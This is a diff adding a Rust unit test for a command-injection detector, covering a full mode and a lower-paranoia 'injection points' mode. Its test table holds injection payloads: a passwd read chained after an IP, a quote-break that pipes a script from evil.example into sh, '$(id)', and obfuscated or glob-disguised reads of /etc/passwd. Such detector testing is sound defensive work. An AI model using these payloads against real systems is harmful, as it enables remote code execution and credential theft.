@@ -957,3 +957,54 @@ fn cmdi_huge_pathological_inputs_finish() {
     huge.push_str(&"a ".repeat(1 << 17));
     assert!(is_cmdi(huge.as_bytes()).is_some());
 }
+
+/// Values that [`is_cmdi`] flags and [`is_cmdi_at_injection_points`] (the
+/// paranoia-level-1 `cmdi` detector) lets through, or flags too, and why.
+const POINTS: &[(&str, bool, &str)] = &[
+    (
+        "The docs say to run\n\n```sh\ncurl -fsSL https://example.com/install.sh | sh\n```\n\nIs it safe?",
+        false,
+        "a piped shell in a post's code block, after prose: no injection point",
+    ),
+    (
+        "Running `docker run -v $(pwd):/app node npm test` creates files owned by root",
+        false,
+        "a substitution inside a quoted command line in prose",
+    ),
+    (
+        "and before that I ran `ls /var/log | wc -l` which says 120000",
+        false,
+        "a markdown code span with a pipe, in prose",
+    ),
+    ("127.0.0.1; cat /etc/passwd", true, "after a one-word argument"),
+    ("x' ; curl https://evil.example/s | sh ; '", true, "after a closed quote"),
+    ("$(id)", true, "a substitution glued to its command"),
+    (
+        "hello there; c''at /etc/passwd",
+        true,
+        "a disguised command name is flagged even after prose",
+    ),
+    ("notes for today ;/???/c?t /???/p?ss??", true, "a glob path, even after prose"),
+];
+
+#[test]
+fn injection_points_mode_lets_strong_shapes_in_prose_through() {
+    for (input, flagged, why) in POINTS {
+        assert!(
+            is_cmdi(input.as_bytes()).is_some(),
+            "is_cmdi must flag {input:?}"
+        );
+        assert_eq!(
+            is_cmdi_at_injection_points(input.as_bytes()).is_some(),
+            *flagged,
+            "{input:?}: {why}"
+        );
+    }
+    // Never more than the full detector.
+    for input in BENIGN {
+        assert!(
+            is_cmdi_at_injection_points(input.as_bytes()).is_none(),
+            "{input:?}"
+        );
+    }
+}
